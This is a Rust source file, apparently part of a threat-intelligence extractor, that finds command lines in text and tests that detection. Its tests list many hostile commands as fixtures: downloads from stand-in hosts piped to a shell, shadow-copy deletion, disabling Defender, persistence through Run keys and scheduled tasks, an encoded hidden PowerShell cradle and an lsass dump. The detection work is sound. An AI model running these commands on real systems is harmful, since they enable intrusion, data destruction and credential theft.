//! Command lines. Enter at [`scan`].
//!
//! A command fills a line, a table cell, a quotation or what follows a colon; it starts with an
//! interpreter or a tool that intruders live off, and has arguments. Prose that merely names a tool
//! is none. The value is what was written.

mod shape;
mod tools;
mod wrap;

use crate::extract::candidate::{Candidate, Text};
use crate::extract::context::label;
use crate::extract::token::{self, DIGIT, HEX, HYPHEN, LETTER, UNDERSCORE};
use crate::indicator::Kind;

/// Longest command line followed, in bytes: what `cmd.exe` takes.
const LONGEST: usize = 8_191;
/// How far the end of a quotation is looked for, in bytes: every mark on a line may open one.
const QUOTED: usize = 2_048;
/// Longest stretch that may stand before a command as its prompt, in bytes.
const PROMPT: usize = 80;
/// How far its prompt and its first word may reach, in bytes.
const NEAR: usize = 512;

/// What may stand before a command in a list or in a tree of processes.
const BULLETS: [char; 12] = [
    '•', '*', '-', '–', '+', '·', '│', '├', '└', '─', '╰', '\u{a0}',
];

/// What stands before a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Opening {
    /// The start of a line or a tab.
    Cell,
    /// A quotation mark or backtick that this one closes.
    Quote(char),
    /// A star that opens emphasis.
    Emphasis,
    /// A colon and a space.
    Colon,
}

/// Finds command lines.
pub(crate) fn scan(text: &Text<'_>, found: &mut Vec<Candidate>) {
    let mut done = 0;
    let mut cell_end = None;
    let bytes = text.str().as_bytes();
    for (at, opening) in openings(text) {
        if at >= done
            && may_begin(bytes, at, opening)
            && let Some(one) = read(text, at, opening, &mut cell_end)
        {
            done = one.span.end;
            found.push(one);
        }
    }
}

/// Every place at which a command may start, rising.
fn openings(text: &Text<'_>) -> impl Iterator<Item = (usize, Opening)> {
    let bytes = text.str().as_bytes();
    let opens = move |at: usize| match bytes[at] {
        b':' => (bytes.get(at + 1) == Some(&b' ')).then_some((at + 2, Opening::Colon)),
        // “ is E2 80 9C.
        0x9C => bytes[..at]
            .ends_with(&[0xE2, 0x80])
            .then_some((at + 1, Opening::Quote('”'))),
        b'*' => Some((at + 1, Opening::Emphasis)),
        mark @ (b'"' | b'`') => Some((at + 1, Opening::Quote(char::from(mark)))),
        b'\'' => {
            let inside = at > 0 && bytes[at - 1].is_ascii_alphanumeric();
            (!inside).then_some((at + 1, Opening::Quote('\'')))
        }
        _ => Some((at + 1, Opening::Cell)),
    };
    std::iter::once((0, Opening::Cell)).chain(text.marks().iter().copied().filter_map(opens))
}

/// Whether the first bytes at `at` leave it open that a command starts there. Nearly every place fails
/// here, at the price of its first word.
fn may_begin(bytes: &[u8], at: usize, opening: Opening) -> bool {
    let near = &bytes[at..bytes.len().min(at + NEAR)];
    let blanks = near.iter().take_while(|byte| **byte == b' ').count();
    let near = &near[blanks..];
    match near.first() {
        Some(byte) if byte.is_ascii_alphanumeric() => {}
        Some(b'"' | b'\'' | b'%' | b'$' | b'.' | b'/' | b'\\' | b'~' | b'@' | b'<' | 0x80..) => {
            return true;
        }
        Some(b'\n' | b'\t') | None => return false,
        Some(byte) => {
            let bullet = BULLETS.contains(&char::from(*byte));
            return opening == Opening::Cell && (bullet || has_prompt_mark(near));
        }
    }
    // A word alone is no command.
    let end = match memchr::memchr3(b' ', b'\n', b'\t', near) {
        Some(end) if near[end] == b' ' => end,
        Some(_) => return false,
        None => return near.len() == NEAR - blanks,
    };
    // A first word of letters must be a tool, where no prompt follows and no schedule begins.
    let word = &near[..end];
    !is_plain(word)
        || opening == Opening::Cell && word.iter().all(u8::is_ascii_digit)
        || std::str::from_utf8(word).is_ok_and(|word| tools::needs(word).is_some())
        || opening == Opening::Cell && has_prompt_mark(near)
}

/// Whether `word` holds letters, digits, hyphens and underscores alone.
fn is_plain(word: &[u8]) -> bool {
    token::span(word, DIGIT | HEX | LETTER | HYPHEN | UNDERSCORE) == word.len()
}

/// Whether one of the marks that end a prompt stands near the start of a line.
fn has_prompt_mark(line: &[u8]) -> bool {
    let window = &line[..line.len().min(PROMPT)];
    memchr::memchr3(b'>', b'$', b'#', window).is_some()
}

/// The command that starts at `at` and goes on at most to the end of its line or cell. `cell_end` is
/// kept from one place to the next, so that a long line with many of them is searched once.
fn read(
    text: &Text<'_>,
    at: usize,
    opening: Opening,
    cell_end: &mut Option<usize>,
) -> Option<Candidate> {
    let whole = text.str();
    // Nearly every place fails here: it must cost little, whatever the length of the line.
    let near = cell(&whole[at..whole.floor_char_boundary(at.saturating_add(NEAR))]);
    let skipped = skip_prompt(near, opening);
    let head = shape::head(&near[skipped..])?;
    let start = at + skipped;
    let reach = match opening {
        Opening::Quote(_) | Opening::Emphasis => QUOTED,
        Opening::Cell | Opening::Colon => LONGEST - skipped,
    };
    let end = match *cell_end {
        Some(end) if start <= end => end,
        _ => *cell_end.insert(start + cell(&whole[start..]).len()),
    };
    let rough = &whole[start..whole.floor_char_boundary(end.min(start.saturating_add(reach)))];
    let said = opening == Opening::Cell && is_labelled(text, start);
    let line = match opening {
        Opening::Quote(mark) => &rough[..closing(rough, mark)?],
        Opening::Emphasis => &rough[..closing_emphasis(rough)?],
        // `*cmd /c dir*` on a line of its own.
        Opening::Cell | Opening::Colon if whole[..start].ends_with('*') => {
            &rough[..closing_emphasis(rough).unwrap_or(rough.len())]
        }
        Opening::Cell => rough,
        Opening::Colon => sentence(rough),
    };
    let line = line.trim_end();
    let fills = matches!(opening, Opening::Cell | Opening::Colon) && start + line.len() == end;
    let line = if matches!(opening, Opening::Quote(_)) || said {
        line
    } else {
        without_full_stop(line)
    };
    if line.len() <= head.end {
        return None;
    }
    let arguments = line[head.end..].trim_start_matches(['"', '\'']).trim();
    let confidence = if said && arguments.contains(|c: char| !c.is_alphabetic()) {
        90
    } else if shape::is_command(&head, arguments) {
        85
    } else {
        return None;
    };
    if arguments.is_empty() {
        return None;
    }
    let span = start..start + line.len();
    let (value, span) = fills
        .then(|| wrap::extend(text, span.clone()))
        .flatten()
        .unwrap_or_else(|| {
            // The pipe that ends a row of a table whose reader saw none.
            let kept = line.trim_end_matches(" |");
            (kept.to_owned(), start..start + kept.len())
        });
    Some(Candidate {
        kind: Kind::Command,
        value,
        span,
        defanged: false,
        confidence,
    })
}

/// Whether the table says that this cell holds a command.
fn is_labelled(text: &Text<'_>, at: usize) -> bool {
    label::of(text, at).is_some_and(|label| {
        let label = label.to_ascii_lowercase();
        label.contains("command") && !label.contains("and control")
            || label.contains("cmdline")
            || label == "cmd"
    })
}

/// `rest` up to the end of its line or table cell.
fn cell(rest: &str) -> &str {
    &rest[..memchr::memchr2(b'\n', b'\t', rest.as_bytes()).unwrap_or(rest.len())]
}

/// Length of what stands before a command on a line of a session or list: `$ `, `PS C:\> `, `- `.
fn skip_prompt(cell: &str, opening: Opening) -> usize {
    let blank = cell.len() - cell.trim_start().len();
    let mut rest = &cell[blank..];
    if opening == Opening::Cell {
        rest = match schedule(rest) {
            0 => rest.trim_start_matches(|c| BULLETS.contains(&c) || c == ' '),
            scheduled => &rest[scheduled..],
        };
        let near = &rest[..rest.floor_char_boundary(PROMPT)];
        let is_prompt = |head: &str| {
            head.starts_with("PS ")
                || head.contains(":\\") && !head.contains(' ')
                || head.contains('@')
                || head.trim().is_empty()
        };
        let prompt = memchr::memchr3(b'>', b'$', b'#', near.as_bytes())
            .filter(|at| is_prompt(&near[..*at]) && near[*at..].len() > 1);
        if let Some(at) = prompt {
            let after = &rest[at + 1..];
            let session = after.starts_with(' ') || rest[..at].contains(":\\");
            rest = if session { after.trim_start() } else { rest };
        }
    }
    cell.len() - rest.len()
}

/// Length of the schedule that opens a line of a crontab: five fields or a name, and the user.
fn schedule(line: &str) -> usize {
    const FIELDS: usize = 5;
    let near = &line[..line.floor_char_boundary(PROMPT)];
    let is_field = |word: &str| {
        word.contains(|c: char| c.is_ascii_digit() || c == '*')
            && word
                .bytes()
                .all(|byte| byte.is_ascii_digit() || matches!(byte, b'*' | b'/' | b',' | b'-'))
    };
    let mut at = 0;
    let mut fields = 0;
    for word in near.split_inclusive([' ', '\t']) {
        let bare = word.trim_end();
        if fields == 0 && matches!(bare, "@reboot" | "@hourly" | "@daily") {
            fields = FIELDS;
        } else if fields < FIELDS && is_field(bare) {
            fields += 1;
        } else if fields == FIELDS && bare == "root" {
            return at + word.len();
        } else {
            break;
        }
        at += word.len();
    }
    if fields == FIELDS { at } else { 0 }
}

/// Where the emphasis ends that a star opened: at one that is no wildcard.
fn closing_emphasis(rest: &str) -> Option<usize> {
    rest.match_indices('*').map(|(at, _)| at).find(|at| {
        let wild = rest[..*at].ends_with([' ', '\\', '/', '*', '.']);
        let behind = rest[at + 1..].chars().next();
        !wild && behind.is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '.' | '\\' | '/'))
    })
}

/// Where the quotation ends that `mark` closes; an escaped mark (`\"`, `""`) does not.
fn closing(rest: &str, mark: char) -> Option<usize> {
    let end = rest.match_indices(mark).map(|(at, _)| at).find(|at| {
        let doubled =
            mark == '"' && (rest[..*at].ends_with('"') || rest[at + 1..].starts_with('"'));
        !rest[..*at].ends_with('\\') && !doubled
    });
    // An apostrophe inside an argument ends nothing, and what lies beyond cannot be told.
    end.filter(|at| {
        let behind = rest[*at..].chars().nth(1);
        mark != '\''
            || behind.is_none_or(|c| c.is_whitespace() || matches!(c, '.' | ',' | ';' | ')'))
    })
}

/// `line` up to the end of the first sentence, where another follows it.
fn sentence(line: &str) -> &str {
    let end = line.match_indices(". ").map(|(at, _)| at).find(|at| {
        let next = line[at + 2..].split(' ').next().unwrap_or_default();
        line[..*at].ends_with(|c: char| c.is_alphanumeric() || matches!(c, '"' | '\'' | ')'))
            && next.starts_with(char::is_uppercase)
            && next.chars().skip(1).all(char::is_lowercase)
    });
    end.map_or(line, |end| &line[..=end])
}

/// `line` without the full stop of the sentence that it closes.
fn without_full_stop(line: &str) -> &str {
    match line.strip_suffix(['.', ';', ',']) {
        Some(kept)
            if kept.ends_with(|c: char| {
                c.is_alphanumeric() || matches!(c, '"' | '\'' | ')' | '”')
            }) =>
        {
            kept
        }
        _ => line,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::Document;

    fn commands(text: &str) -> Vec<String> {
        let document = Document {
            text: text.into(),
            ..Document::default()
        };
        let mut found = Vec::new();
        scan(&Text::new(&document), &mut found);
        found.into_iter().map(|one| one.value).collect()
    }

    #[test]
    fn a_line_or_a_quotation_may_be_a_command() {
        for command in [
            r"cmd.exe /c whoami /all > C:\temp\o.txt",
            r"rundll32.exe C:\ProgramData\evil.dll,Start",
            "regsvr32 /s /u /i:http://evil.example/x.sct scrobj.dll",
            r"schtasks /create /tn Upd /tr C:\a.exe /sc minute /mo 10",
            "certutil -urlcache -split -f http://evil.example/a.exe a.exe",
            "vssadmin delete shadows /all /quiet",
            "curl -s http://evil.example/x.sh | bash",
            r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y /f",
            "wmic.exe Shadowcopy Delete",
            "bcdedit /set {default} recoveryenabled No",
            "powershell -nop -w hidden -enc AAAA",
            r"C:\Windows\System32\cmd.exe /c dir",
            "chmod +x /tmp/evil",
            "python3 evil.py --host 192.0.2.1",
            "net user evil P@ss /add",
            "ping -n 5 192.0.2.1",
            r#"C:\Windows\System32\rundll32.exe" SHELL32 ShellExec_RunDLL evil"#,
            "Set-MpPreference -DisableRealtimeMonitoring $true",
        ] {
            assert_eq!(commands(command), [command]);
            assert_eq!(commands(&format!("It runs `{command}` next.")), [command]);
            assert_eq!(
                commands(&format!("Then this command runs: {command}.")),
                [command]
            );
            assert_eq!(commands(&format!("  $ {command}\n")), [command]);
        }
        assert_eq!(commands("PS C:\\Users\\x> whoami /all"), ["whoami /all"]);
        assert_eq!(commands("C:\\>whoami /all"), ["whoami /all"]);
    }

    #[test]
    fn lists_trees_and_crontabs_hold_commands() {
        assert_eq!(
            commands("a.exe\n└── cmd.exe /c start x.bat\n    └── whoami /all"),
            ["cmd.exe /c start x.bat", "whoami /all"]
        );
        assert_eq!(
            commands("*/5 * * * * root curl -s http://a.example/x | sh\n@reboot nohup /tmp/x -d"),
            ["curl -s http://a.example/x | sh", "nohup /tmp/x -d"]
        );
        assert_eq!(
            commands("./miner -o pool.example:444 -B"),
            ["./miner -o pool.example:444 -B"]
        );
        assert_eq!(
            commands("/tmp/.x/agent -c /etc/.cfg"),
            ["/tmp/.x/agent -c /etc/.cfg"]
        );
        assert_eq!(commands("/etc/passwd is read"), [""; 0]);
    }

    #[test]
    fn emphasis_and_single_quotes_hold_commands() {
        for text in [
            "*cmd.exe /c del /q *.tmp*",
            "it runs *cmd.exe /c del /q *.tmp* then",
            "it runs **cmd.exe /c del /q *.tmp**, then",
            "it runs 'cmd.exe /c del /q *.tmp', then",
        ] {
            assert_eq!(commands(text), ["cmd.exe /c del /q *.tmp"], "{text}");
        }
        assert_eq!(commands("'powershell -c IEX('a')'"), [""; 0]);
    }

    #[test]
    fn a_sentence_behind_a_command_is_not_part_of_it() {
        assert_eq!(
            commands("He typed: wevtutil cl Security. Then he left."),
            ["wevtutil cl Security"]
        );
        assert_eq!(
            commands("Process: C:\\Windows\\WMIC.exe CommandLine: wmic os get /all"),
            ["wmic os get /all"]
        );
    }

    #[test]
    fn a_command_that_a_shell_continues_is_whole() {
        for (text, command) in [
            (
                "schtasks /create /tn \"Upd\" /tr ^\n  \"C:\\a.exe -k\" /ru SYSTEM",
                "schtasks /create /tn \"Upd\" /tr \"C:\\a.exe -k\" /ru SYSTEM",
            ),
            (
                "curl -sk https://192.0.2.1/x \\\n  -H \"A: b\" \\\n  -o /var/tmp/.x\nnext",
                "curl -sk https://192.0.2.1/x -H \"A: b\" -o /var/tmp/.x",
            ),
            (
                "Get-ChildItem C:\\ -Recurse |\n  Where-Object {$_.Length}",
                "Get-ChildItem C:\\ -Recurse | Where-Object {$_.Length}",
            ),
        ] {
            assert_eq!(commands(text), [command]);
        }
    }

    #[test]
    fn a_command_that_a_page_wrapped_is_whole() {
        for (text, command) in [
            (
                "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0A\nTwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE\nAG8AdwBu",
                "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBu",
            ),
            (
                "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\nNT\\CurrentVersion\\Winlogon\" /v Shell /f",
                "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v Shell /f",
            ),
            (
                "schtasks.exe /create /sc minute /mo 10 /tn OneDriveUpdate /tr C:\\ProgramData\\od.exe\n/ru SYSTEM /f",
                "schtasks.exe /create /sc minute /mo 10 /tn OneDriveUpdate /tr C:\\ProgramData\\od.exe /ru SYSTEM /f",
            ),
        ] {
            assert_eq!(commands(text), [command]);
        }
    }

    #[test]
    fn commands_below_each_other_stay_apart() {
        let list = "net group \"Domain Admins\" /domain\nnet group \"Domain Computer\" /domain\nwhoami /all\nnltest /domain_trusts";
        assert_eq!(commands(list), list.lines().collect::<Vec<_>>());
        assert_eq!(
            commands(
                "cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt\nThis was seen on three hosts."
            ),
            ["cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt"]
        );
        assert_eq!(
            commands("ping -n 5 192.0.2.1\n- an item"),
            ["ping -n 5 192.0.2.1"]
        );
    }

    #[test]
    fn prose_that_names_a_tool_is_no_command() {
        for text in [
            "The actor uses powershell to download a file.",
            "PowerShell is used to download the payload from C:\\Temp.",
            "PowerShell and cmd.exe were seen.",
            "Python is a language.",
            "curl, wget and certutil.exe are common.",
            "rundll32.exe",
            "Find out more at https://evil.example/",
            "net income rose",
            "Start the day with /r/netsec",
            "wscript.exe and mshta.exe run C:\\a.js afterwards.",
            "bash",
        ] {
            assert_eq!(commands(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn a_cell_that_the_table_calls_a_command_is_one() {
        assert_eq!(
            commands("command_line\tevil.exe -u a -p b\tseen once"),
            ["evil.exe -u a -p b"]
        );
        assert_eq!(
            commands("command\tmakecab  lsass.dmp lsass.dmp.cab \tx"),
            ["makecab  lsass.dmp lsass.dmp.cab"]
        );
    }

    #[test]
    fn hostile_texts_end_and_every_candidate_lies_in_the_text() {
        let patterns = [
            "a",
            "\"cmd ",
            "`cmd /c ",
            "cmd /c \"",
            ": cmd ",
            "\t",
            "\ncmd",
            "“cmd /c é ",
            "$ ",
            "PS C:\\> ",
            "> ",
            "cmd\t/c ",
            ": ",
            "\"",
            "`",
            "“",
            "漢",
            "cmd /c a\n",
            "cmd /c a^\n",
            "*cmd /c ",
            "'cmd /c ",
            "* * * * * ",
        ];
        crate::extract::cases::endures(scan, &patterns);
    }
}
